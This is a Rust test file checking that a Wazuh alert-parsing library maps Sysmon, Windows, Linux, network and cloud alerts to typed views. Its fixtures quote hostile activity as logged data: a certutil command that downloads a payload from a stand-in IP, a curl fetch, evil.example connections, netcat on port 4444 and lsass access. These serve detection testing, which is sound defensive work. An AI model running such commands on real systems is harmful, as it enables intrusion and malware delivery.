//! One alert of each family, and what its view says.

#![allow(clippy::unwrap_used, reason = "only tests")]
#![allow(clippy::too_many_lines, reason = "tables of alerts")]

mod corpus;

use serde_json::{Value, json};
use wazuh_model::views::{Sysmon, SysmonEvent, Windows, WindowsEvent};
use wazuh_model::{Alert, Band, Generation, View};

fn alert(value: &Value) -> Alert {
    Alert::from_slice(value.to_string().as_bytes()).unwrap()
}

fn labelled(kind: &str) -> Alert {
    let found = corpus::labelled().into_iter().find(|(name, _)| name == kind);
    Alert::from_slice(&found.unwrap().1).unwrap()
}

fn windows(provider: &str, channel: &str, id: u32, data: &Value) -> Alert {
    alert(&json!({
        "rule": {"id": "1", "level": 5}, "location": "EventChannel", "decoder": {"name": "windows_eventchannel"},
        "data": {"win": {
            "system": {"providerName": provider, "eventID": id.to_string(), "channel": channel, "computer": "WS-1.corp.example"},
            "eventdata": data
        }}
    }))
}

fn with_sysmon(id: u32, data: &Value, check: impl FnOnce(&Sysmon<'_>)) {
    let alert = windows(
        "Microsoft-Windows-Sysmon",
        "Microsoft-Windows-Sysmon/Operational",
        id,
        data,
    );
    let View::Sysmon(sysmon) = alert.view() else {
        panic!("{id}: {:?}", alert.view())
    };
    assert_eq!(sysmon.id, u64::from(id));
    check(&sysmon);
}

fn with_security(id: u32, data: &Value, check: impl FnOnce(&Windows<'_>)) {
    let alert = windows("Microsoft-Windows-Security-Auditing", "Security", id, data);
    let View::Windows(windows) = alert.view() else {
        panic!("{id}: {:?}", alert.view())
    };
    assert_eq!(windows.id, u64::from(id));
    check(&windows);
}

#[test]
fn sysmon_1_names_the_process_its_parent_and_its_hashes() {
    let alert = labelled("certutil_download");
    let View::Sysmon(sysmon) = alert.view() else { panic!() };
    assert_eq!((sysmon.id, sysmon.rule_name.as_deref()), (1, None));
    assert_eq!(
        sysmon.process.image.as_deref(),
        Some(r"C:\Windows\System32\certutil.exe")
    );
    assert_eq!(sysmon.process.user.as_deref(), Some(r"CORP\m.lee"));
    let SysmonEvent::ProcessCreate {
        command_line,
        hashes,
        parent,
        logon_id,
        integrity_level,
        ..
    } = sysmon.event
    else {
        panic!()
    };
    assert_eq!(
        command_line.as_deref(),
        Some(r"certutil.exe -urlcache -split -f http://198.51.100.23/u.dat C:\ProgramData\u.exe")
    );
    assert_eq!(hashes.md5.as_deref(), Some("4BF5B178DF97DE45E4BFB845F2AC66F4"));
    assert!(hashes.imphash.is_some() && logon_id.is_some() && integrity_level.is_some());
    assert_eq!(
        (parent.image.as_deref(), parent.id),
        (Some(r"C:\Windows\System32\cmd.exe"), Some(3060))
    );
}

#[test]
fn sysmon_views_say_what_a_process_did() {
    let connection = json!({"image": "C:\\\\a.exe", "processId": "7", "user": "CORP\\\\u", "protocol": "tcp", "initiated": "true",
        "sourceIp": "10.0.0.1", "sourcePort": "50000", "destinationIp": "203.0.113.9", "destinationHostname": "evil.example", "destinationPort": "443"});
    with_sysmon(3, &connection, |sysmon| {
        let SysmonEvent::NetworkConnection {
            initiated,
            destination_ip,
            destination_host,
            destination_port,
            ..
        } = &sysmon.event
        else {
            panic!()
        };
        assert_eq!((*initiated, *destination_port), (Some(true), Some(443)));
        assert_eq!(
            (destination_ip.as_deref(), destination_host.as_deref()),
            (Some("203.0.113.9"), Some("evil.example"))
        );
        assert_eq!(
            (sysmon.process.id, sysmon.process.user.as_deref()),
            (Some(7), Some(r"CORP\u"))
        );
    });
    let library = json!({"imageLoaded": "C:\\\\x.dll", "signed": "false", "signatureStatus": "Unavailable", "hashes": "MD5=AA,IMPHASH=00000000000000000000000000000000"});
    with_sysmon(7, &library, |sysmon| {
        let SysmonEvent::ImageLoad {
            image_loaded,
            signed,
            hashes,
            signature,
            ..
        } = &sysmon.event
        else {
            panic!()
        };
        assert_eq!(
            (image_loaded.as_deref(), *signed, signature.as_deref()),
            (Some(r"C:\x.dll"), Some(false), None)
        );
        assert_eq!((hashes.md5.as_deref(), hashes.imphash.as_deref()), (Some("AA"), None));
    });
    let thread = json!({"sourceImage": "C:\\\\a.exe", "sourceProcessId": "1", "targetImage": "C:\\\\lsass.exe", "targetProcessId": "2", "startAddress": "0x7FF", "startModule": "-"});
    with_sysmon(8, &thread, |sysmon| {
        let SysmonEvent::RemoteThread {
            target, start_module, ..
        } = &sysmon.event
        else {
            panic!()
        };
        assert_eq!(
            (sysmon.process.id, target.id, start_module.as_deref()),
            (Some(1), Some(2), None)
        );
        assert_eq!(target.image.as_deref(), Some(r"C:\lsass.exe"));
    });
    let access = json!({"sourceImage": "C:\\\\a.exe", "sourceProcessGUID": "{1}", "targetImage": "C:\\\\lsass.exe", "grantedAccess": "0x1010", "callTrace": "ntdll|UNKNOWN(1)"});
    with_sysmon(10, &access, |sysmon| {
        let SysmonEvent::ProcessAccess {
            granted_access,
            call_trace,
            ..
        } = &sysmon.event
        else {
            panic!()
        };
        assert_eq!(
            (*granted_access, call_trace.as_deref()),
            (Some(0x1010), Some("ntdll|UNKNOWN(1)"))
        );
        assert_eq!(sysmon.process.guid.as_deref(), Some("{1}"));
    });
    for id in [11, 15, 23, 26, 29] {
        let file = json!({"image": "C:\\\\a.exe", "targetFilename": "C:\\\\t\\\\n.exe", "isExecutable": "true", "hashes": "SHA256=BB", "contents": "[ZoneTransfer]\\r\\nZoneId=3"});
        with_sysmon(id, &file, |sysmon| {
            let SysmonEvent::File {
                target_filename,
                hashes,
                contents,
                is_executable,
                ..
            } = &sysmon.event
            else {
                panic!()
            };
            assert_eq!(
                (target_filename.as_deref(), hashes.sha256.as_deref()),
                (Some(r"C:\t\n.exe"), Some("BB"))
            );
            assert_eq!(
                (contents.as_deref(), *is_executable),
                (Some("[ZoneTransfer]\r\nZoneId=3"), Some(true))
            );
        });
    }
    for id in 12..=14 {
        let key = json!({"eventType": "SetValue", "targetObject": "HKLM\\\\Run\\\\x", "details": "DWORD (0x00000001)", "newName": "HKLM\\\\Run\\\\y"});
        with_sysmon(id, &key, |sysmon| {
            let SysmonEvent::Registry {
                event_type,
                target_object,
                details,
                new_name,
            } = &sysmon.event
            else {
                panic!()
            };
            assert_eq!(
                (event_type.as_deref(), target_object.as_deref()),
                (Some("SetValue"), Some(r"HKLM\Run\x"))
            );
            assert_eq!(
                (details.as_deref(), new_name.as_deref()),
                (Some("DWORD (0x00000001)"), Some(r"HKLM\Run\y"))
            );
        });
    }
    with_sysmon(
        18,
        &json!({"eventType": "ConnectPipe", "pipeName": "\\\\msagent_12"}),
        |sysmon| {
            let SysmonEvent::Pipe { name, .. } = &sysmon.event else {
                panic!()
            };
            assert_eq!(name.as_deref(), Some(r"\msagent_12"));
        },
    );
    with_sysmon(
        20,
        &json!({"eventType": "WmiConsumerEvent", "operation": "Created", "name": "n", "destination": "cmd /c x"}),
        |sysmon| {
            let SysmonEvent::Wmi { operation, what, .. } = &sysmon.event else {
                panic!()
            };
            assert_eq!(
                (operation.as_deref(), what.as_deref()),
                (Some("Created"), Some("cmd /c x"))
            );
        },
    );
    with_sysmon(
        22,
        &json!({"queryName": "evil.example", "queryStatus": "9003", "queryResults": "-"}),
        |sysmon| {
            let SysmonEvent::DnsQuery { query, status, results } = &sysmon.event else {
                panic!()
            };
            assert_eq!(
                (query.as_deref(), *status, results.as_deref()),
                (Some("evil.example"), Some(9003), None)
            );
        },
    );
    with_sysmon(
        25,
        &json!({"image": "C:\\\\a.exe", "type": "Image is replaced"}),
        |sysmon| {
            let SysmonEvent::ProcessTampering { kind } = &sysmon.event else {
                panic!()
            };
            assert_eq!(kind.as_deref(), Some("Image is replaced"));
        },
    );
    with_sysmon(5, &json!({"image": "C:\\\\a.exe"}), |sysmon| {
        assert_eq!(sysmon.event, SysmonEvent::Other);
    });
}

#[test]
fn log_ons_say_who_from_where_and_why_not() {
    for id in [4624, 4625, 4648, 4672] {
        let data = json!({"subjectUserName": "WS-1$", "subjectLogonId": "0x3e7", "targetUserName": "j.doe", "targetDomainName": "CORP", "targetUserSid": "S-1-0-0",
            "logonType": "10", "ipAddress": "203.0.113.9", "ipPort": "0", "workstationName": "KALI", "status": "0xc000006d", "subStatus": "0xc0000064",
            "targetServerName": "SRV", "privilegeList": "SeDebugPrivilege\\r\\n\\t\\t\\tSeBackupPrivilege", "elevatedToken": "%%1842"});
        with_security(id, &data, |windows| {
            let WindowsEvent::Logon(logon) = &windows.event else {
                panic!("{id}")
            };
            assert_eq!(
                (
                    logon.subject.logon_id,
                    logon.target.name.as_deref(),
                    logon.target.domain.as_deref()
                ),
                (Some(0x3e7), Some("j.doe"), Some("CORP"))
            );
            assert_eq!(
                (logon.logon_type, logon.ip.as_deref(), logon.port),
                (Some(10), Some("203.0.113.9"), None)
            );
            assert_eq!(
                (logon.status, logon.sub_status, logon.elevated),
                (Some(0xc000_006d), Some(0xc000_0064), Some(true))
            );
            assert_eq!(
                logon.privileges.as_deref(),
                Some("SeDebugPrivilege\r\n\t\t\tSeBackupPrivilege")
            );
            assert_eq!(
                (logon.target_server.as_deref(), logon.workstation.as_deref()),
                (Some("SRV"), Some("KALI"))
            );
        });
    }
}

#[test]
fn a_domain_controller_says_what_it_checked() {
    for id in [4768, 4769, 4771, 4776] {
        let data = json!({"targetUserName": "j.doe", "serviceName": "MSSQLSvc", "ipAddress": "::ffff:10.0.0.9", "ipPort": "50123", "status": "0x18",
            "ticketEncryptionType": "0x17", "ticketOptions": "0x40810000", "preAuthType": "0", "workstation": "WS-9"});
        with_security(id, &data, |windows| {
            let WindowsEvent::Credentials(checked) = &windows.event else {
                panic!("{id}")
            };
            assert_eq!(
                (checked.status, checked.ticket_encryption, checked.pre_auth_type),
                (Some(0x18), Some(0x17), Some(0))
            );
            assert_eq!(
                (checked.ip.as_deref(), checked.port),
                (Some("::ffff:10.0.0.9"), Some(50123))
            );
            assert_eq!(
                (checked.service.as_deref(), checked.workstation.as_deref()),
                (Some("MSSQLSvc"), Some("WS-9"))
            );
        });
    }
}

#[test]
fn security_events_say_what_was_made_or_changed() {
    let process = json!({"subjectUserName": "j.doe", "newProcessName": "C:\\\\a.exe", "newProcessId": "0x1a4", "processId": "0x10", "commandLine": "a -x", "parentProcessName": "C:\\\\b.exe", "tokenElevationType": "%%1937"});
    with_security(4688, &process, |windows| {
        let WindowsEvent::ProcessCreation(process) = &windows.event else {
            panic!()
        };
        assert_eq!((process.id, process.parent_id), (Some(0x1a4), Some(0x10)));
        assert_eq!(
            (
                process.image.as_deref(),
                process.parent_image.as_deref(),
                process.command_line.as_deref()
            ),
            (Some(r"C:\a.exe"), Some(r"C:\b.exe"), Some("a -x"))
        );
    });
    with_security(
        4697,
        &json!({"serviceName": "s", "serviceFileName": "%COMSPEC% /c x", "serviceAccount": "LocalSystem", "serviceStartType": "3"}),
        |windows| {
            let WindowsEvent::Service(service) = &windows.event else {
                panic!()
            };
            assert_eq!(
                (
                    service.command.as_deref(),
                    service.account.as_deref(),
                    service.start_type.as_deref()
                ),
                (Some("%COMSPEC% /c x"), Some("LocalSystem"), Some("3"))
            );
        },
    );
    with_security(
        4698,
        &json!({"subjectUserName": "u", "taskName": "\\\\Updater", "taskContent": "<Task/>"}),
        |windows| {
            let WindowsEvent::ScheduledTask(task) = &windows.event else {
                panic!()
            };
            assert_eq!(
                (task.name.as_deref(), task.content.as_deref()),
                (Some(r"\Updater"), Some("<Task/>"))
            );
        },
    );
    for id in [4720, 4726, 4738] {
        with_security(
            id,
            &json!({"subjectUserName": "admin", "targetUserName": "new", "targetSid": "S-1-5-21-1", "targetDomainName": "CORP"}),
            |windows| {
                let WindowsEvent::AccountChange(change) = &windows.event else {
                    panic!("{id}")
                };
                assert_eq!(
                    (
                        change.subject.name.as_deref(),
                        change.target.name.as_deref(),
                        change.target.sid.as_deref()
                    ),
                    (Some("admin"), Some("new"), Some("S-1-5-21-1"))
                );
                assert_eq!(change.caller_computer, None);
            },
        );
    }
    with_security(
        4740,
        &json!({"targetUserName": "j.doe", "targetDomainName": "WS-FIN-042"}),
        |windows| {
            let WindowsEvent::AccountChange(change) = &windows.event else {
                panic!()
            };
            assert_eq!(
                (change.caller_computer.as_deref(), change.target.domain.as_deref()),
                (Some("WS-FIN-042"), None)
            );
        },
    );
    for id in [4728, 4732, 4756] {
        with_security(
            id,
            &json!({"memberName": "CN=eve,DC=corp", "memberSid": "S-1-5-21-2", "targetUserName": "Domain Admins", "subjectUserName": "adm"}),
            |windows| {
                let WindowsEvent::GroupChange(change) = &windows.event else {
                    panic!("{id}")
                };
                assert_eq!(
                    (change.group.name.as_deref(), change.member.as_deref()),
                    (Some("Domain Admins"), Some("CN=eve,DC=corp"))
                );
            },
        );
    }
    let installed = windows(
        "Service Control Manager",
        "System",
        7045,
        &json!({"serviceName": "PSEXESVC", "imagePath": "%SystemRoot%\\\\PSEXESVC.exe", "accountName": "LocalSystem"}),
    );
    let View::Windows(view) = installed.view() else {
        panic!()
    };
    let WindowsEvent::Service(service) = view.event else {
        panic!()
    };
    assert_eq!(
        (service.name.as_deref(), service.command.as_deref()),
        (Some("PSEXESVC"), Some(r"%SystemRoot%\PSEXESVC.exe"))
    );
    let other = windows("Some Program", "Application", 7045, &json!({"data": "x"}));
    assert!(matches!(
        other.view(),
        View::Windows(Windows {
            event: WindowsEvent::Other,
            ..
        })
    ));
}

#[test]
fn clearing_a_log_is_seen_with_and_without_event_data() {
    let cleared = alert(
        &json!({"data": {"win": {"system": {"providerName": "Microsoft-Windows-Eventlog", "eventID": "1102", "channel": "Security", "message": "\"The audit log was cleared.\""}}}}),
    );
    let View::Windows(view) = cleared.view() else { panic!() };
    assert!(matches!(view.event, WindowsEvent::LogCleared(_)) && view.message.is_some());
    let system = windows(
        "Microsoft-Windows-Eventlog",
        "System",
        104,
        &json!({"subjectUserName": "wardog", "channel": "System"}),
    );
    let View::Windows(view) = system.view() else { panic!() };
    let WindowsEvent::LogCleared(cleared) = view.event else {
        panic!()
    };
    assert_eq!(
        (cleared.subject.name.as_deref(), cleared.log.as_deref()),
        (Some("wardog"), Some("System"))
    );
}

#[test]
fn powershell_4104_gives_the_script_with_its_lines() {
    let data = json!({"messageNumber": "1", "messageTotal": "2", "scriptBlockText": "IEX \\\"a\\\"\\nb", "scriptBlockId": "f1", "path": "C:\\\\x.ps1"});
    let alert = windows(
        "Microsoft-Windows-PowerShell",
        "Microsoft-Windows-PowerShell/Operational",
        4104,
        &data,
    );
    let View::Windows(view) = alert.view() else { panic!() };
    let WindowsEvent::PowerShell(script) = view.event else {
        panic!()
    };
    assert_eq!(
        (script.script.as_deref(), script.path.as_deref()),
        (Some("IEX \"a\"\nb"), Some(r"C:\x.ps1"))
    );
    assert_eq!((script.part, script.parts), (Some(1), Some(2)));
}

#[test]
fn fim_gives_both_sides_and_who_did_it() {
    let alert = labelled("fim_sshd_by_curl");
    let View::Fim(fim) = alert.view() else { panic!() };
    assert_eq!(
        (fim.path.as_deref(), fim.event.as_deref(), fim.is_registry()),
        (Some("/usr/sbin/sshd"), Some("modified"), false)
    );
    assert_eq!(fim.after.md5.as_deref(), Some("919be7ec723c4273c1c31e51cb887815"));
    let who = fim.who.unwrap();
    assert_eq!(
        (who.process.as_deref(), who.process_id),
        (Some("/usr/bin/curl"), Some(4120))
    );
    assert_eq!(
        (who.user.as_deref(), who.login_user.as_deref()),
        (Some("root"), Some("k.ito"))
    );
    let made = alert_of_fim();
    let View::Fim(fim) = made.view() else { panic!() };
    assert_eq!(
        (fim.before.size, fim.after.size, fim.after.inode.as_deref()),
        (Some(10), Some(12), Some("-5"))
    );
    assert_eq!((fim.changed.len(), fim.after.attributes.len(), fim.who), (2, 1, None));
    let registry = labelled("fim_registry_tz");
    let View::Fim(fim) = registry.view() else { panic!() };
    assert!(fim.is_registry());
}

fn alert_of_fim() -> Alert {
    alert(
        &json!({"syscheck": {"path": "C:\\x", "event": "modified", "size_before": "10", "size_after": "12", "inode_after": -5,
        "changed_attributes": ["size", "mtime"], "attrs_after": ["ARCHIVE"], "win_perm_after": [{"name": "a", "allowed": ["READ"]}]}}),
    )
}

#[test]
fn wazuhs_own_modules_have_views() {
    let vulnerable = labelled("vuln_critical");
    let View::Vulnerability(view) = vulnerable.view() else {
        panic!()
    };
    assert_eq!(
        (view.cve.as_deref(), view.score, view.package.as_deref()),
        (Some("CVE-2024-3094"), Some(10.0), Some("xz-utils"))
    );

    let check = alert(
        &json!({"location": "sca", "data": {"sca": {"type": "check", "policy": "p", "check": {"id": "30020", "title": "t", "result": "failed", "previous_result": "passed"}}}}),
    );
    let View::Sca(view) = check.view() else { panic!() };
    assert_eq!(
        (view.check_id, view.result.as_deref(), view.previous_result.as_deref()),
        (Some(30020), Some("failed"), Some("passed"))
    );

    let summary = alert(
        &json!({"data": {"sca": {"type": "summary", "score": "81", "passed": "80", "failed": "110", "invalid": "3"}}}),
    );
    let View::Sca(view) = summary.view() else { panic!() };
    assert_eq!(
        (view.score, view.passed, view.failed, view.invalid),
        (Some(81), Some(80), Some(110), Some(3))
    );

    let rootkit = alert(
        &json!({"location": "rootcheck", "data": {"title": "Trojaned version of file detected.", "file": "/bin/diff"}}),
    );
    let View::Rootcheck(view) = rootkit.view() else {
        panic!()
    };
    assert_eq!(view.file.as_deref(), Some("/bin/diff"));

    let docker = labelled("docker_exec_shell");
    let View::Docker(view) = docker.view() else { panic!() };
    assert_eq!(
        (view.name.as_deref(), view.image.as_deref()),
        (Some("api-1"), Some("shop/api:1.9.2"))
    );
    assert!(view.action.unwrap().starts_with("exec_create"));

    let known = alert(
        &json!({"data": {"virustotal": {"found": "1", "malicious": "1", "positives": "57", "total": "68", "source": {"file": "/x", "md5": "44d88612fea8a8f36de82e1278abb02f"}}}}),
    );
    let View::VirusTotal(view) = known.view() else { panic!() };
    assert_eq!(
        (view.found, view.malicious, view.positives, view.total),
        (Some(true), Some(true), Some(57), Some(68))
    );

    let row = alert(
        &json!({"location": "osquery", "data": {"name": "pack_x_last", "action": "added", "unixTime": "1768915578", "columns": {"path": "/tmp/nc", "port": "4444"}}}),
    );
    let View::Osquery(view) = row.view() else { panic!() };
    assert_eq!(
        (view.name.as_deref(), view.unix_time),
        (Some("pack_x_last"), Some(1_768_915_578))
    );
    assert_eq!(
        view.columns,
        [
            ("path".to_owned(), "/tmp/nc".to_owned()),
            ("port".to_owned(), "4444".to_owned())
        ]
    );
}

#[test]
fn linux_has_views() {
    let record = alert(
        &json!({"decoder": {"name": "auditd"}, "data": {"audit": {"type": "SYSCALL", "exe": "/usr/bin/curl", "command": "curl", "key": "audit-wazuh-c",
        "success": "yes", "pid": "77", "auid": "4294967295", "uid": "33", "execve": {"a0": "curl", "a1": "http://203.0.113.9/x", "a3": "lost"}, "file": {"name": "/tmp/x"}}}}),
    );
    let View::Audit(view) = record.view() else { panic!() };
    assert_eq!(
        (view.exe.as_deref(), view.arguments.as_deref()),
        (Some("/usr/bin/curl"), Some("curl http://203.0.113.9/x"))
    );
    assert_eq!(
        (view.success, view.pid, view.auid, view.uid),
        (Some(true), Some(77), Some(4_294_967_295), Some(33))
    );
    assert_eq!(view.files, ["/tmp/x"]);

    let ssh = alert(
        &json!({"decoder": {"name": "sshd"}, "predecoder": {"program_name": "sshd", "hostname": "web01"}, "data": {"srcip": "203.0.113.7", "srcport": "4022", "srcuser": "admin"}}),
    );
    let View::Login(view) = ssh.view() else { panic!() };
    assert_eq!(
        (
            view.user.as_deref(),
            view.source_ip.as_deref(),
            view.source_port,
            view.host.as_deref()
        ),
        (Some("admin"), Some("203.0.113.7"), Some(4022), Some("web01"))
    );

    let pam = alert(&json!({"decoder": {"name": "pam"}, "data": {"dstuser": "root", "uid": "0"}}));
    let View::Login(view) = pam.view() else { panic!() };
    assert_eq!(
        (view.program.as_deref(), view.target_user.as_deref()),
        (Some("pam"), Some("root"))
    );

    let sudo = labelled("sudo_unauthorised");
    let View::Login(view) = sudo.view() else { panic!() };
    assert_eq!(
        (
            view.user.as_deref(),
            view.target_user.as_deref(),
            view.command.as_deref()
        ),
        (Some("www-data"), Some("root"), Some("/bin/sh -c id"))
    );
}

#[test]
fn the_network_has_views() {
    let request = labelled("sqli_404");
    let View::Web(view) = request.view() else { panic!() };
    assert_eq!(
        (view.source_ip.as_deref(), view.method.as_deref(), view.status),
        (Some("198.51.100.31"), Some("GET"), Some(404))
    );
    assert!(view.url.unwrap().contains("union"));

    let seen = alert(
        &json!({"data": {"event_type": "alert", "src_ip": "203.0.113.5", "src_port": "4000", "dest_ip": "10.0.0.5", "dest_port": "80", "proto": "TCP",
        "alert": {"signature_id": "2009582", "signature": "ET SCAN", "severity": "1", "action": "allowed"}, "http": {"hostname": "shop.example", "url": "/x"}, "tls": {"sni": "a.example"}, "dns": {"query": [{"rrname": "b.example"}]}}}),
    );
    let View::Suricata(view) = seen.view() else { panic!() };
    assert_eq!(
        (view.signature_id, view.severity, view.destination_port),
        (Some(2_009_582), Some(1), Some(80))
    );
    assert_eq!(
        (
            view.hostname.as_deref(),
            view.tls_name.as_deref(),
            view.dns_query.as_deref()
        ),
        (Some("shop.example"), Some("a.example"), Some("b.example"))
    );
}

#[test]
fn clouds_have_views() {
    let root = labelled("aws_root_login_no_mfa");
    let View::CloudTrail(view) = root.view() else { panic!() };
    assert_eq!(
        (view.event_name.as_deref(), view.identity_type.as_deref(), view.mfa_used),
        (Some("ConsoleLogin"), Some("Root"), Some(false))
    );
    assert_eq!(
        (view.console_login.as_deref(), view.error_code.as_deref()),
        (Some("Success"), None)
    );

    let finding = alert(
        &json!({"data": {"integration": "aws", "aws": {"source": "guardduty", "type": "UnauthorizedAccess:EC2/SSHBruteForce", "severity": "5", "region": "eu-1",
        "resource": {"resourceType": "Instance", "instanceDetails": {"instanceId": "i-1"}},
        "service": {"count": "12", "action": {"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {"connectionDirection": "INBOUND", "localPortDetails": {"port": "22"}, "remoteIpDetails": {"ipAddressV4": "198.51.100.0", "country": {"countryName": "X"}}}}}}}}),
    );
    let View::GuardDuty(view) = finding.view() else {
        panic!()
    };
    assert_eq!(
        (view.severity, view.local_port, view.count),
        (Some(5.0), Some(22), Some(12))
    );
    assert_eq!(
        (
            view.remote_ip.as_deref(),
            view.direction.as_deref(),
            view.instance_id.as_deref()
        ),
        (Some("198.51.100.0"), Some("INBOUND"), Some("i-1"))
    );

    let mail = labelled("o365_login_ok");
    let View::Office365(view) = mail.view() else { panic!() };
    assert_eq!(
        (view.operation.as_deref(), view.user.as_deref(), view.record_type),
        (Some("UserLoggedIn"), Some("k.ito@corp.example"), Some(15))
    );

    let activity = alert(
        &json!({"location": "Azure", "data": {"operationName": "Delete", "caller": "a@corp.example", "callerIpAddress": "203.0.113.9", "resourceId": "/subscriptions/1", "resultType": "Success"}}),
    );
    let View::Azure(view) = activity.view() else { panic!() };
    assert_eq!(
        (
            view.caller.as_deref(),
            view.caller_ip.as_deref(),
            view.status.as_deref()
        ),
        (Some("a@corp.example"), Some("203.0.113.9"), Some("Success"))
    );

    let graph = alert(
        &json!({"data": {"integration": "ms-graph", "ms-graph": {"resource": "security", "relationship": "alerts_v2", "title": "Malware", "severity": "high", "status": "new", "detectionSource": "antivirus", "actor": {"userPrincipalName": "a@corp.example"}}}}),
    );
    let View::Graph(view) = graph.view() else { panic!() };
    assert_eq!(
        (view.title.as_deref(), view.severity.as_deref(), view.user.as_deref()),
        (Some("Malware"), Some("high"), Some("a@corp.example"))
    );

    let github = alert(
        &json!({"data": {"github": {"action": "repo.destroy", "actor": "octo", "org": "o", "repo": "o/r", "actor_location": {"country_code": "DE"}}}}),
    );
    let View::GitHub(view) = github.view() else { panic!() };
    assert_eq!(
        (
            view.action.as_deref(),
            view.actor.as_deref(),
            view.repository.as_deref(),
            view.country.as_deref()
        ),
        (Some("repo.destroy"), Some("octo"), Some("o/r"), Some("DE"))
    );

    let gcp = alert(
        &json!({"data": {"integration": "gcp", "gcp": {"severity": "NOTICE", "protoPayload": {"serviceName": "iam.googleapis.com", "methodName": "CreateKey", "authenticationInfo": {"principalEmail": "a@corp.example"}, "requestMetadata": {"callerIp": "203.0.113.9"}, "status": {"code": "7"}}, "resource": {"labels": {"project_id": "p"}}}}}),
    );
    let View::Gcp(view) = gcp.view() else { panic!() };
    assert_eq!(
        (
            view.method.as_deref(),
            view.principal.as_deref(),
            view.caller_ip.as_deref(),
            view.status_code
        ),
        (Some("CreateKey"), Some("a@corp.example"), Some("203.0.113.9"), Some(7))
    );
}

#[test]
fn a_finding_of_wazuh_5_is_the_same_alert() {
    let finding = finding();
    let wrapped = alert(
        &json!({"_index": ".ds-wazuh-findings-v5-system-activity-000001", "_id": "Y9ds", "_source": serde_json::from_slice::<Value>(finding.original()).unwrap()}),
    );
    for alert in [&finding, &wrapped] {
        assert_eq!(alert.generation(), Generation::Five);
        assert_eq!((alert.rule().level, alert.rule().band()), (Some(8), Some(Band::Medium)));
        assert_eq!(
            alert.rule().description.as_deref(),
            Some("Monitored file deleted by wazuh-vm")
        );
        assert_eq!(alert.rule().mitre.ids, ["T1070", "T1485"]);
        let agent = alert.agent().unwrap();
        assert_eq!(
            (agent.id.as_deref(), agent.name.as_deref(), agent.os.as_deref()),
            (Some("003"), Some("Windows-11"), Some("Microsoft Windows 11 Pro"))
        );
        assert_eq!(
            (alert.cluster_node(), alert.location(), alert.decoder()),
            (Some("node01"), Some("syscheck"), Some("wazuh-fim"))
        );
        assert_eq!(
            (alert.id(), alert.source_ref().as_str()),
            (Some("JtdsTZ8B"), "node01/003/JtdsTZ8B")
        );
        assert_eq!(alert.time().unwrap().to_string(), "2026-07-10T19:06:10.438Z");
        assert_eq!(alert.uuid(), finding.uuid());
        let View::Ecs(view) = alert.view() else { panic!() };
        assert_eq!(
            (view.action.as_deref(), view.file.as_deref(), view.process_id),
            (Some("deleted"), Some("c:\\test\\hello.txt"), Some(5052))
        );
        assert_eq!(
            (view.user.as_deref(), view.categories.len(), view.category.as_deref()),
            (Some("wazuh-vm"), 1, Some("system-activity"))
        );
        assert_eq!(alert.fingerprint().family, wazuh_model::Family::Fim);
        assert_eq!(alert.assets()[0].os, Some(wazuh_model::Os::Windows));
        assert_eq!(alert.actors().files, ["c:\\test\\hello.txt"]);
    }
    let mut other: Value = serde_json::from_slice(finding.original()).unwrap();
    other["wazuh"]["rule"]["id"] = json!("11111111-8ffe-484f-861f-522f1ef89699");
    assert_ne!(
        alert(&other).uuid(),
        finding.uuid(),
        "two rules that match one event make two alerts"
    );
}

fn finding() -> Alert {
    alert(&json!({
        "process": {"name": "explorer.exe", "pid": 5052}, "@timestamp": "2026-07-10T19:06:10.438Z",
        "file": {"path": "c:\\test\\hello.txt", "mode": "whodata", "hash": {"md5": "ad2d611e4b060351732574b64aeaeed7"}},
        "user": {"name": "wazuh-vm", "id": "S-1-5-21-1002"},
        "event": {"kind": "event", "action": "deleted", "category": ["file"], "outcome": "success", "doc_id": "JtdsTZ8B", "index": ".ds-wazuh-events-v5-system-activity-000001"},
        "wazuh": {
            "cluster": {"node": "node01", "name": "wazuh"}, "protocol": {"location": "syscheck", "queue": 56},
            "agent": {"id": "003", "name": "Windows-11", "version": "v5.0.0", "groups": ["default"], "host": {"hostname": "WINDOWS-11", "os": {"name": "Microsoft Windows 11 Pro", "type": "windows"}}},
            "integration": {"name": "wazuh-fim", "category": "system-activity", "decoders": ["decoder/wazuh-fim/0"]},
            "rule": {"id": "c06abe18-8ffe-484f-861f-522f1ef89699", "level": "medium", "title": "Monitored file deleted by wazuh-vm", "status": "stable", "tags": ["attack.impact"],
                     "compliance": {"pci_dss": ["6.2"]}, "mitre": {"technique": {"name": ["Indicator Removal", "Data Destruction"], "id": ["T1070", "T1485"]}, "tactic": {"name": ["Stealth"], "id": ["TA0005"]}}}
        }
    }))
}

#[test]
fn every_real_alert_has_the_view_of_its_family() {
    for (name, line) in corpus::real() {
        let alert = Alert::from_slice(&line).unwrap();
        let view = alert.view();
        let expected = match name.as_str() {
            "lab_otrf_attack" => matches!(view, View::Sysmon(_) | View::Windows(_)),
            "lab_cloudtrail_stratus" => matches!(view, View::CloudTrail(_)),
            _ => match alert.location() {
                Some("syscheck") => matches!(view, View::Fim(_)),
                Some("sca") => matches!(view, View::Sca(_)),
                Some("rootcheck") => matches!(view, View::Rootcheck(_)),
                Some("osquery") => matches!(view, View::Osquery(_)),
                Some("virustotal") => matches!(view, View::VirusTotal(_)),
                Some("/var/log/suricata/eve.json") => matches!(view, View::Suricata(_)),
                Some("/var/log/auth.log") => matches!(view, View::Login(_)),
                Some("/var/log/apache2/access.log") => matches!(view, View::Web(_)),
                _ => true,
            },
        };
        assert!(expected, "{name} {} {view:?}", alert.source_ref());
    }
}
